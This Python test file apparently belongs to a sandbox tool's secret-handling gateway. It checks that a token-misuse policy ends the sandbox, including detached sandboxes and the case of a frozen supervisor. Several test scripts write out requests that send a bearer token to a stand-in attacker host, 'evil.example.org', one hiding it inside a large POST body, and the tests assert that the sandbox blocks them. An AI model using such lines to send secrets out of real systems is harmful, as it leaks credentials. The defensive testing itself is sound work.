#!/usr/bin/env python3
"""Secrets whose misuse ends the sandbox (on_violation: terminate): whoever made it, whoever waits for it, and also where
its supervisor does nothing. In the Internet of test_gateway_secrets.py.
"""
import os
import signal
import subprocess

import frame  # noqa: F401  (its paths)

import harness
import test_gateway_secrets
from test_gateway_secrets import POLICY, PYTHON

STAGE = "CAISSON_GATEWAY_TERMINATE_STAGE"
TERMINATE = POLICY + "    on_violation: terminate\n"
MISUSE = 'print(*request("evil.example.org", headers={"Authorization": "Bearer " + token}))'
USE = 'print(*request("api.example.com", "/quiet", headers={"Authorization": "Bearer " + token})[:2], flush=True)\n'


class Stage(test_gateway_secrets.Stage):
    def test_a_misuse_ends_the_run_with_its_verdict(self):
        for caller in self.each_caller():
            result = self.python(caller, USE + MISUSE + '\nprint("still here")', policy=TERMINATE, expect=119)
            self.assertEqual(result["stdout"], "200 ok\n", result)
            verdict = result["verdict"]
            self.assertEqual((verdict["kind"], verdict["cause"]), ("policy_violation", "secret"), verdict)
            self.assertIn("gh", verdict["message"])
            self.assertIn("on_violation: terminate", verdict["message"])
            self.assertEqual(self.received("evil"), b"")
            last = result["audit"][-1]
            self.assertEqual((last["kind"], last["decision"], last["reason"]), ("secret_violation", "deny", "secret_host"))
            self.assertIn("terminate", last["detail"])
            self.assertTrue(result["network"]["complete"])
            self.assertEqual(caller.sandboxes_left(), [])

    def test_each_kind_of_misuse_does_so_and_what_is_none_does_not(self):
        cases = ['request("api.example.com", headers={"User-Agent": token})', 'request("api.example.com", headers={"Authorization": token + " " + token})',
                 'request("api.example.com", headers={"Authorization": token}, kind=http.client.HTTPConnection)',
                 'request("evil.example.org", "/p", "POST", b"x" * (2 << 20) + token.encode() + b"y" * 100000)']
        for caller in self.each_caller():
            for case in cases:
                result = self.python(caller, f"print({case})\nprint('still here')", policy=TERMINATE, expect=119)
                self.assertEqual((result["verdict"]["cause"], result["stdout"]), ("secret", ""), result)
            self.assertNotIn(b"ghp_", self.received("evil"))
            # The body is not what it says: a mistake, and no way out.
            case = 'print(why(request("api.example.com", "/p", "POST", "{" + token, {"Content-Type": "application/json"})))'
            result = self.python(caller, case + "\n" + USE, policy=TERMINATE)
            self.assertEqual(result["stdout"], "(400, 'secret_malformed_body')\n200 ok\n")

    def test_whoever_does_not_wait_for_the_answer_gets_nothing_more_through(self):
        script = """
import threading, time
def go_on():
    while True: request("api.example.com", "/quiet")
threading.Thread(target=go_on, daemon=True).start()
time.sleep(0.3)
threading.Thread(target=lambda: request("evil.example.org", headers={"Authorization": token}), daemon=True).start()
time.sleep(600)
"""
        for caller in self.each_caller():
            result = self.python(caller, script, policy=TERMINATE, expect=119)
            kinds = [r["kind"] for r in result["audit"]]
            at = kinds.index("secret_violation")
            self.assertFalse([r for r in result["audit"][at:] if r["decision"] == "allow" and r.get("status") == 200], result["audit"][at:])

    def test_a_detached_sandbox_ends_and_its_waiters_hear_why(self):
        for caller in self.each_caller():
            with self.detached(caller, TERMINATE) as sandbox:
                with caller.popen("exec", "-i", sandbox, "--", "sh", "-c", "echo up; sleep 300", stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE) as waiter:
                    self.assertEqual(waiter.stdout.readline(), b"up\n")
                    done = caller.caisson("exec", sandbox, "--", "python3", "-c", PYTHON + MISUSE)
                    self.assertEqual((done.returncode, done.out), (119, ""), done)
                    self.assertIn("on_violation: terminate", done.err)
                    self.assertEqual(waiter.wait(30), 119)
                self.assertTrue(harness.wait_until(lambda: caller.sandboxes_left() == [], 20))
                self.assertEqual(self.received("evil"), b"")

    def test_a_supervisor_that_does_nothing_saves_no_sandbox(self):
        for caller in self.each_caller():
            others = self.children(b"sleep")  # the lab's
            running = lambda: [pid for pid in self.children(b"sleep") if pid not in others]
            with self.detached(caller, TERMINATE) as sandbox:
                supervisors = self.children(b"caisson-superv")
                self.assertEqual(len(supervisors), 1)
                script = 'import time\nprint("up", flush=True); time.sleep(1)\n' + MISUSE
                with caller.popen("exec", sandbox, "--", "python3", "-c", PYTHON + script, stdout=subprocess.PIPE) as program:
                    self.addCleanup(program.kill)
                    self.assertEqual(program.stdout.readline(), b"up\n")
                    # Before it can have heard of anything.
                    os.kill(supervisors[0], signal.SIGSTOP)
                    try:
                        self.assertTrue(running())
                        self.assertTrue(harness.wait_until(lambda: not running(), 15), "what ran inside still runs")
                        self.assertTrue(harness.wait_until(lambda: not self.children(b"caisson-superv"), 30), "its supervisor was not ended")
                    finally:
                        program.kill()
                self.assertTrue(harness.wait_until(lambda: caller.sandboxes_left() == [], 20))
                self.assertEqual(self.received("evil"), b"")
                self.assertEqual(self.children(b"caisson-gateway"), [])


# The cases of the file that this one stands on are its own.
for name in dir(test_gateway_secrets.Stage):
    if name.startswith("test_") and name not in vars(Stage):
        setattr(Stage, name, None)

if __name__ == "__main__":
    test_gateway_secrets.main(__file__, STAGE)
